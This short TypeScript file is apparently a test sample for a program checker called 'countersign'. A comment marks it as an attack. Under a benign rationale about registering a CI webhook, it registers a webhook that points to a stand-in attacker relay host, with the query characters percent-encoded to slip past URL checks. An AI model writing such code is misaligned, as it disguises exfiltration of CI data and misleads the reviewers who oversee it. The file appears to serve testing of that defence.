// Attack: the relay URL with its ? and = percent-encoded, which the relay reads the same.
import { program } from "countersign";
import { post } from "trusted/http";

export default program({
  rationale: "Register our CI webhook.",
  async main() {
    await post({ url: "https://api.example.com/webhooks", body: JSON.stringify({ url: "https://relay.hooks-evil.example/in%3Ffwd%3Dci" }) });
  },
});
